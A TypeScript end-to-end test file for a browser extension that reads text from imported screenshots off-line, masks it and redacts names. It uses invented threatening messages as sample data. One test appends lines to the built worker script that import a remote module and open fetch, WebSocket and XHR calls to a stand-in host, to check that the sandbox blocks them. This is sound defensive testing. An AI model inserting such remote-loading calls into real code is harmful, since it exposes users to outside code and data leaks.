import { appendFile, cp, mkdtemp } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { importFiles } from '../support/browser/archiveFlow.ts';
import { showView } from '../support/browser/carnetScreens.ts';
import type { PageHandle } from '../support/browser/pageHandle.ts';
import { classifyRequests } from '../support/browser/requestLog.ts';
import { say } from '../support/browser/words.ts';
import { writeToDisk } from '../support/e2e/sampleFiles.ts';
import { builtDir } from '../support/machine/build.ts';
import { expect, test } from './fixtures.ts';

const MESSAGES = ['Je sais où tu habites', 'Tu vas le regretter demain', 'Réponds à mes messages'];
const TIMEOUT_MS = 50_000;

/** Draws messages in bubbles, as a telephone shows them; returns a PNG. */
async function drawScreen(page: PageHandle, lines: readonly string[]): Promise<Buffer> {
  const base64 = await page.evaluate(async (texts) => {
    const canvas = new OffscreenCanvas(1080, 1200);
    const context = canvas.getContext('2d');
    if (context === null) throw new Error('no canvas');
    context.fillStyle = '#efeae2';
    context.fillRect(0, 0, canvas.width, canvas.height);
    context.font = '44px sans-serif';
    for (const [index, text] of texts.entries()) {
      context.fillStyle = index % 2 ? '#3797f0' : '#ffffff';
      context.beginPath();
      context.roundRect(40, 80 + index * 200, 900, 120, 40);
      context.fill();
      context.fillStyle = index % 2 ? '#ffffff' : '#111b21';
      context.fillText(text, 80, 155 + index * 200);
    }
    const bytes = new Uint8Array(await (await canvas.convertToBlob({ type: 'image/png' })).arrayBuffer());
    return btoa(Array.from(bytes, (byte) => String.fromCharCode(byte)).join(''));
  }, lines);
  return Buffer.from(base64, 'base64');
}

/** Presses « Pause » as soon as that many images are read: the driver is slower than the reading. */
const pauseAfter = (page: PageHandle, count: number): Promise<void> =>
  page.evaluate(
    (done) =>
      new Promise<void>((resolve) => {
        const pause = () => {
          if ((document.querySelector('progress')?.value ?? 0) < done) return;
          observer.disconnect();
          document.querySelector<HTMLElement>('[data-action="pause-image-texts"]')?.click();
          resolve();
        };
        const observer = new MutationObserver(pause);
        observer.observe(document.body, { subtree: true, childList: true, attributes: true });
        pause();
      }),
    count,
  );

/** Imports invented screens, and opens the list. */
async function importScreens(carnet: PageHandle, screens: ReadonlyMap<string, Buffer>): Promise<void> {
  const files = await writeToDisk(screens);
  await importFiles(carnet, files.paths);
  await carnet.click('[data-action="see-items"]');
  await carnet.waitForVisible('[data-list="items"] [data-item]');
}

test('reads imported screenshots, masked, with a pause and a correction, off-line', async ({ user, network }) => {
  const carnet = await user.driver.openExtensionPage('carnet.html#import');
  await carnet.waitForVisible('#import-files');
  const drawn = await drawScreen(carnet, MESSAGES);
  const names = Array.from({ length: 5 }, (_, index) => `capture-${index}.png`);
  // A damaged header: imported and kept, never read.
  const broken = Buffer.from(drawn);
  broken[29] = (broken[29] ?? 0) ^ 0xff;
  const screens = names.map((name, index) => [name, Buffer.concat([drawn, Buffer.from([index])])] as const);
  await importScreens(carnet, new Map([...screens, ['abimee.png', broken]]));

  await carnet.click('[data-route="image-texts"]');
  await carnet.waitForVisible('[data-action="read-image-texts"]');
  const status = () => carnet.text('[data-image-texts] [role="status"]');
  expect(await status()).toContain(say('imageTexts.count', { n: 5 }));
  await carnet.click('[data-action="read-image-texts"]');
  await pauseAfter(carnet, 2);
  await expect.poll(status).toContain(say('imageTexts.paused'));
  // The images are counted again after the pause.
  const counted = async (key: 'imageTexts.count' | 'imageTexts.done') => {
    const shown = await status();
    return [1, 2, 3, 4].some((n) => shown.includes(say(key, { n })));
  };
  await expect.poll(() => counted('imageTexts.count')).toBe(true);
  await carnet.click('[data-action="read-image-texts"]');
  await expect.poll(() => counted('imageTexts.done'), { timeout: TIMEOUT_MS }).toBe(true);
  await expect.poll(() => carnet.has('[data-action="read-image-texts"]')).toBe(false);

  await carnet.click('.back');
  await carnet.waitForVisible('[data-list="items"] [data-item]');
  await carnet.click('[data-list="items"] li:last-child [data-item]');
  await carnet.waitForVisible('[data-image-text] [data-action="reveal"]');
  const section = () => carnet.text('[data-image-text]');
  expect(await section()).toContain(say('imageText.toCheck'));
  for (const message of MESSAGES) expect(await section()).not.toContain(message);
  await carnet.click('[data-image-text] [data-action="reveal"]');
  for (const message of MESSAGES) expect(await carnet.text('.read-lines')).toContain(message);
  await carnet.click('[data-action="correct-line"]');
  await carnet.fill({ 'image-text-line': `${MESSAGES[0]} !` });
  await expect.poll(() => carnet.text('.read-lines li')).toContain(`${MESSAGES[0]} !`);
  expect(await carnet.text('.read-lines li')).toContain(say('imageText.corrected'));
  await carnet.click('.back');
  await carnet.focus('[name="words"]');
  await carnet.evaluate((word) => {
    const field = document.querySelector<HTMLInputElement>('[name="words"]');
    if (field === null) throw new Error('no search field');
    field.value = word;
    field.dispatchEvent(new InputEvent('input', { bubbles: true }));
  }, MESSAGES[0]?.split(' ').at(-1) ?? '');
  await expect.poll(() => carnet.text('[data-list="items"]')).toContain(say('items.field.image'));

  // The word is framed in the image, inside it.
  await carnet.click('[data-list="items"] li:last-child [data-item]');
  await carnet.click('.item-content .masked-image [data-action="reveal"]');
  await carnet.waitForVisible('[data-searched-places="1"]');
  const framed = await carnet.evaluate(() => {
    const [image, place] = [...document.querySelectorAll('.searched-places > *')].map((one) =>
      one.getBoundingClientRect(),
    );
    if (image === undefined || place === undefined) throw new Error('nothing is framed');
    return { left: (place.left - image.left) / image.width, top: (place.top - image.top) / image.height };
  });
  // The first bubble: 80 to 200 of 1,200 px. The search finds the line that was corrected.
  expect(framed.top).toBeGreaterThan(0.06);
  expect(framed.top).toBeLessThan(0.17);
  expect(framed.left).toBeLessThan(0.2);

  // The row of an item that was read has its first line, masked.
  await carnet.click('.back');
  await carnet.waitForVisible('[data-list="items"] [data-item]');
  expect(await carnet.text('[data-list="items"] li:last-child')).not.toContain(MESSAGES[0]);
  await carnet.click('[data-list="items"] li:last-child [data-action="reveal"]');
  await expect
    .poll(() => carnet.text('[data-list="items"] li:last-child .revealed'))
    .toContain(say('imageText.toCheck'));
  expect(classifyRequests(network.contacts(), []).unasked).toEqual([]);
});

test('finds a hidden word in the images that were read, and proposes its place to hide', async ({ user }) => {
  const carnet = await user.driver.openExtensionPage('carnet.html#import');
  await carnet.waitForVisible('#import-files');
  const shows = await drawScreen(carnet, ['Appelle Camille Durand', ...MESSAGES]);
  const other = await drawScreen(carnet, MESSAGES);
  await importScreens(
    carnet,
    new Map([
      ['un.png', shows],
      ['deux.png', Buffer.concat([shows, Buffer.from([1])])],
    ]),
  );
  await carnet.click('[data-route="image-texts"]');
  await carnet.click('[data-action="read-image-texts"]');
  await expect
    .poll(() => carnet.text('[data-image-texts] [role="status"]'), { timeout: TIMEOUT_MS })
    .toContain(say('imageTexts.done', { n: 2 }));
  await showView(carnet, '#import');
  await carnet.waitForVisible('#import-files');
  await importScreens(carnet, new Map([['trois.png', other]]));

  await carnet.click('[data-list="items"] li:last-child [data-item]');
  await carnet.click('.hide-menu summary');
  await carnet.click('[data-redact]');
  await carnet.waitForVisible('[name="word"]');
  await carnet.fill({ word: 'camille durand' });
  await carnet.click('[data-hidden-words] button[type="submit"]');
  // Two were read; the third was not.
  await carnet.waitForVisible('[data-hidden-traces="2"][aria-busy="false"]');
  expect(await carnet.text('[data-hidden-capture="2"] [data-in-images]')).toContain(say('hidden.inImages'));
  expect(await carnet.text('[data-hidden-line="hidden.unreadImages"]')).toContain('trois.png');
  await carnet.waitForVisible('[data-read-places="1"]');
  await carnet.click('[data-action="hide-read-places"]');
  await carnet.waitForVisible('[data-redact-state="kept"]');
  await carnet.waitForVisible('[data-hidden-traces="1"][aria-busy="false"]');
  const [, width = 0, height = 0, x = 0, y = 0] = (
    /: (\d+) \D+(\d+), \D+(\d+) \D+(\d+) /.exec(await carnet.text('.redact-list li p')) ?? []
  ).map(Number);
  // « Appelle » begins at 80 px; the first bubble is from 80 to 200 px.
  expect(x).toBeGreaterThan(150);
  expect(width).toBeGreaterThan(250);
  expect(y).toBeGreaterThan(80);
  expect(y + height).toBeLessThan(200);
});

test('gives the worker that reads images no way to the network @firefox', async ({ engine, network, openBrowser }) => {
  const dir = await mkdtemp(join(tmpdir(), 'recueil-recognition-'));
  await cp(builtDir(engine), dir, { recursive: true });
  const attempts = `
;import('https://ailleurs.example/module.js').catch(() => undefined);
try { fetch('https://ailleurs.example/fetch'); } catch {}
try { new WebSocket('wss://ailleurs.example/socket'); } catch {}
try { const request = new XMLHttpRequest(); request.open('GET', 'https://ailleurs.example/xhr'); request.send(); } catch {}
`;
  await appendFile(join(dir, 'recognition/worker.js'), attempts);
  const user = await openBrowser({ extensionDir: dir });
  const carnet = await user.driver.openExtensionPage('carnet.html#import');
  await carnet.waitForVisible('#import-files');
  await importScreens(carnet, new Map([['capture.png', await drawScreen(carnet, MESSAGES)]]));
  await carnet.click('[data-list="items"] [data-item]');
  await carnet.click('[data-action="read-image-text"]');
  await carnet.waitForVisible('[data-image-text] [data-action="reveal"]', TIMEOUT_MS);
  expect(classifyRequests(network.contacts(), []).unasked).toEqual([]);
  const created = await carnet.evaluate(() => {
    const { trustedTypes } = window as unknown as {
      trustedTypes?: { createPolicy(name: string, rules: object): object };
    };
    try {
      trustedTypes?.createPolicy('another', {});
      return trustedTypes === undefined ? 'no Trusted Types' : 'created';
    } catch {
      return 'refused';
    }
  });
  expect(created).toBe('refused');
  // Reports what the policy refused.
  await user.close().catch(() => undefined);
});
